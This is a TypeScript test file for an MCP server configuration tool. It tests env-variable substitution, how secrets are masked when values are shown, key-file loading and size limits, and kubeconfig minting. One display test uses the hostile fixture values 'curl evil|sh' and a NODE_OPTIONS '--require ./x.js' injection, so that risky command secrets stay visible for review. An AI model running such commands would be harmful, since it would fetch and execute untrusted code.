import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import { describe, expect, it } from 'vitest';

import { WarRoomError } from '../../../src/base/errors';
import type { Variable } from '../../../src/catalog/entry';
import {
  givenValues,
  serverValues,
  variableTexts,
  writtenTexts,
} from '../../../src/servers/values';
import { temporaryFolder } from '../../harness/temporary';
import { entryWith, kubeconfig, never } from './entries';

const key: Variable = {
  name: 'KEY_FILE',
  description: '',
  required: true,
  secret: true,
  isFile: true,
};
const kib = 1024;

describe('What an mcp.json writes', () => {
  const named = (name: string, more: Partial<Variable> = {}): Variable => ({
    ...{ name, description: '', required: false, secret: false },
    ...more,
  });

  it('is filled from the variable that it names, and never from one of its own name', () => {
    const around = { API_KEY: 'of others', SVC_KEY: 'mine' };
    const given = (text: string, personal = {}) =>
      givenValues({ around, written: { API_KEY: text }, personal })['API_KEY'];
    expect(given('${env:SVC_KEY}')).toBe('mine');
    expect(given('Bearer ${env:SVC_KEY}')).toBe('Bearer mine');
    expect(given('${env:NONE}')).toBeUndefined();
    expect(given('${env:SVC_KEY}', { API_KEY: 'given' })).toBe('given');
  });

  it('is told apart from what the person gave', () => {
    const entry = entryWith(named('A'), named('B'), named('C'), named('D', { default: 'usual' }));
    const sources = { around: { C: '3' }, written: { A: '1', B: '2' }, personal: { B: 'mine' } };
    expect(writtenTexts(entry, sources)).toEqual({ A: '1', D: 'usual' });
    expect(writtenTexts({ ...entry, origin: 'bundled' }, sources)).toEqual({});
  });

  it('is shown, but for secrets that are no part of a command', () => {
    const entry = {
      ...entryWith(named('KEY', { secret: true }), named('CMD_KEY', { secret: true })),
      args: ['-c', '${CMD_KEY}'],
    };
    const written = {
      ...{ KEY: 'hidden', CMD_KEY: 'curl evil|sh', NODE_OPTIONS: '--require ./x.js' },
      ...{ URL: 'postgres://me:hunter2hunter2@db/x', TOKEN: '${env:MINE}' },
    };
    const shown = variableTexts(entry, [...Object.keys(written), 'OWN'], written);
    expect(shown.slice(0, 3)).toEqual([
      'KEY=***',
      'CMD_KEY="curl evil|sh"',
      'NODE_OPTIONS="--require ./x.js"',
    ]);
    expect(shown[3]).toMatch(/^URL=/);
    expect(shown[3]).not.toContain('hunter2');
    expect(shown.slice(4)).toEqual(['TOKEN=${env:MINE}', 'OWN']);
  });
});

describe('The values of a server', () => {
  it('hold the content of a file, given as a path or as itself', async () => {
    await using folder = await temporaryFolder('values');
    const path = join(folder.path, 'key.json');
    await writeFile(path, '{"key": 1}');
    for (const KEY_FILE of [path, '{"key": 1}']) {
      const { files, environment } = await serverValues(entryWith(key), { KEY_FILE }, null, never);
      expect({ files, environment }).toEqual({
        files: { KEY_FILE: '{"key": 1}' },
        environment: {},
      });
    }
  });

  it('are refused where a file is larger than one variable can hold', async () => {
    await using folder = await temporaryFolder('values');
    const path = join(folder.path, 'key.json');
    await writeFile(path, 'x'.repeat(120 * kib));
    const { files } = await serverValues(entryWith(key), { KEY_FILE: path }, null, never);
    expect(files['KEY_FILE']).toHaveLength(120 * kib);

    await writeFile(path, 'x'.repeat(120 * kib + 1));
    // Bytes count, and not characters.
    for (const KEY_FILE of [path, `{${'뷁'.repeat(40 * kib)}`]) {
      await expect(serverValues(entryWith(key), { KEY_FILE }, null, never)).rejects.toSatisfy(
        (error) =>
          WarRoomError.is(error, 'wrong-usage') &&
          error.message ===
            'The content for KEY_FILE has 121 KiB, and a server can be handed 120 KiB at most, so it was not started; give it less.',
      );
    }
  });

  it('say which file is not there', async () => {
    const given = { KEY_FILE: '/nowhere/key.json' };
    await expect(serverValues(entryWith(key), given, null, never)).rejects.toSatisfy((error) =>
      WarRoomError.is(error, 'not-found'),
    );
  });

  it('hold a kubeconfig that was made, as a file or as itself', async () => {
    await using folder = await temporaryFolder('values');
    const path = join(folder.path, 'config');
    await writeFile(path, kubeconfig);
    const before = process.env['KUBECONFIG'];
    process.env['KUBECONFIG'] = path;
    try {
      const file: Variable = { ...key, name: 'KUBECONFIG', mint: 'kubeconfig' };
      const text: Variable = { ...key, name: 'KUBECONFIG_YAML', isFile: false, mint: 'kubeconfig' };
      const made = await serverValues(entryWith(file, text), {}, 'sample', never);
      expect(made.files['KUBECONFIG']).toContain('sample');
      expect(made.environment['KUBECONFIG_YAML']).toContain('sample');
      expect(made.minted).toHaveLength(2);
      const given = { KUBECONFIG_YAML: 'kind: Config' };
      expect((await serverValues(entryWith(text), given, 'sample', never)).environment).toEqual(
        given,
      );
    } finally {
      if (before === undefined) delete process.env['KUBECONFIG'];
      else process.env['KUBECONFIG'] = before;
    }
  });
});
